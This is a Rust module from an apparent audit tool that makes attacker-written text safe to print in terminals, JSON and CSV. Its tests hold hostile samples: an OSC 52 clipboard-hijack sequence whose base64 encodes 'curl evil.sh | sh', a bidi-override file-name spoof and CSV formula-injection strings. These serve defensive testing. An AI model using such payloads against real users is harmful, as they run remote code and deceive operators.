//! Making attacker-controlled text harmless where people and programs read it.
//!
//! Transcripts, command strings, user agents, role session names and file names are written by
//! the people being audited. Printed raw, an ESC sequence can retitle the operator's window,
//! write their clipboard (OSC 52), clear the screen or draw a fake line; a bidirectional
//! override can make text read differently from what it is. So:
//! - human-readable output ([`visible`]) shows every control character as a visible escape;
//! - JSON ([`json_str`]) escapes C0, DEL, C1 and the line/bidi controls as `\uXXXX`;
//! - CSV ([`csv_field`]) never carries ESC or DEL, and a field that a spreadsheet would run as
//!   a formula (starting with `=`, `+`, `-`, `@`, tab or CR) is prefixed with `'`, as OWASP
//!   recommends against CSV injection.

use std::borrow::Cow;
use std::fmt::Write;

/// Characters that reorder or hide text on display: line/paragraph separators and the
/// bidirectional embedding, override and isolate controls.
fn is_format_control(c: char) -> bool {
    matches!(c, '\u{2028}' | '\u{2029}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

fn needs_escape(c: char, keep_newlines: bool) -> bool {
    (c.is_control() && !(keep_newlines && (c == '\n' || c == '\t'))) || is_format_control(c)
}

/// Text for a terminal: control characters as `\x1b`, `\r`, `\u{202e}`...; newlines and tabs
/// kept when `keep_newlines` (multi-line commands and transcripts), else shown as `\n`.
pub fn visible(s: &str, keep_newlines: bool) -> Cow<'_, str> {
    if !s.chars().any(|c| needs_escape(c, keep_newlines)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if !needs_escape(c, keep_newlines) {
            out.push(c);
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x100 => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c => {
                let _ = write!(out, "\\u{{{:04x}}}", c as u32);
            }
        }
    }
    Cow::Owned(out)
}

/// A JSON string literal (with quotes): C0, DEL, C1 and the line/bidi controls escaped.
/// Runs of printable ASCII are copied whole (it writes every string of every JSON output: one
/// char at a time it was an eighth of an audit's CPU).
pub fn json_str(s: &str, out: &mut String) {
    out.reserve(s.len() + 2);
    out.push('"');
    let bytes = s.as_bytes();
    let (mut run, mut i) = (0, 0);
    while i < bytes.len() {
        let b = bytes[i];
        if (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\' {
            i += 1;
            continue;
        }
        let c = s[i..].chars().next().expect("a char starts here");
        if b >= 0x80 && !c.is_control() && !is_format_control(c) {
            i += c.len_utf8();
            continue;
        }
        out.push_str(&s[run..i]);
        json_char(c, out);
        i += c.len_utf8();
        run = i;
    }
    out.push_str(&s[run..]);
    out.push('"');
}

/// One char of a JSON string, escaped when it must be.
fn json_char(c: char, out: &mut String) {
    match c {
        '"' => out.push_str("\\\""),
        '\\' => out.push_str("\\\\"),
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if c.is_control() || is_format_control(c) => {
            let _ = write!(out, "\\u{:04x}", c as u32);
        }
        c => out.push(c),
    }
}

/// One CSV field: quoted when needed, formula triggers neutralised, ESC/DEL and other controls
/// (but newlines, which quoted fields may hold) made visible.
pub fn csv_field(s: &str, is_text: bool) -> String {
    let mut v: Cow<'_, str> = Cow::Borrowed(s);
    if s.chars().any(|c| c != '\n' && needs_escape(c, true)) {
        let mut t = String::with_capacity(s.len() + 8);
        for c in s.chars() {
            if c == '\n' || !needs_escape(c, true) {
                t.push(c);
            } else {
                t.push_str(&visible(c.encode_utf8(&mut [0; 4]), false));
            }
        }
        v = Cow::Owned(t);
    }
    let formula = is_text && s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula {
        v = Cow::Owned(format!("'{v}"));
    }
    if formula || v.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_strings_escape_as_one_char_at_a_time_did() {
        fn one_at_a_time(s: &str) -> String {
            let mut out = String::from("\"");
            for c in s.chars() {
                json_char(c, &mut out);
            }
            out.push('"');
            out
        }
        let samples = [
            "",
            "plain",
            "a \"quoted\" \\ path",
            "tab\tnew\nline\r",
            "\u{1b}[31mred\u{7f}",
            "é ü 漢字 \u{85} \u{9f}",
            "bidi \u{202e}evil\u{202c} \u{2028}\u{2066}x\u{200f}",
            "\u{0}\u{1f} end",
            "emoji 🙂\"",
            "ends with é",
        ];
        for s in samples {
            let mut out = String::from("prefix:");
            json_str(s, &mut out);
            assert_eq!(out, format!("prefix:{}", one_at_a_time(s)), "{s:?}");
            let back: String = serde_json::from_str(&out["prefix:".len()..]).unwrap();
            assert_eq!(back, s);
        }
    }

    #[test]
    fn terminals_see_escapes_not_controls() {
        let osc52 = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\rfake prompt$ \u{202e}txt.exe";
        let v = visible(osc52, false);
        assert!(
            !v.chars().any(|c| c.is_control() || is_format_control(c)),
            "{v}"
        );
        assert_eq!(
            v,
            "ok\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\rfake prompt$ \\u{202e}txt.exe"
        );
        assert_eq!(visible("a\nb", true), "a\nb");
        assert_eq!(visible("C1:\u{9b}2J", false), "C1:\\x9b2J");
    }

    #[test]
    fn json_escapes_c1_and_bidi() {
        let mut s = String::new();
        json_str("\x1b[2J\u{9b}31m\u{7f}\u{2028}\u{202e}\"", &mut s);
        assert_eq!(s, r#""\u001b[2J\u009b31m\u007f\u2028\u202e\"""#);
        let back: String = serde_json::from_str(&s).unwrap();
        assert_eq!(back, "\x1b[2J\u{9b}31m\u{7f}\u{2028}\u{202e}\"");
    }

    #[test]
    fn csv_neutralises_formulas_and_controls() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://x\")", true),
            "\"'=HYPERLINK(\"\"http://x\"\")\""
        );
        assert_eq!(csv_field("+1", true), "\"'+1\"");
        assert_eq!(csv_field("-rf /", true), "\"'-rf /\"");
        assert_eq!(csv_field("@SUM(A1)", true), "\"'@SUM(A1)\"");
        assert_eq!(csv_field("\tcmd", true), "\"'\tcmd\"");
        assert_eq!(csv_field("-5", false), "-5", "numbers are not formulas");
        assert_eq!(csv_field("a\x1bb\x7f", true), "a\\x1bb\\x7f");
        assert_eq!(csv_field("two\nlines", true), "\"two\nlines\"");
        assert_eq!(csv_field("plain", true), "plain");
    }
}
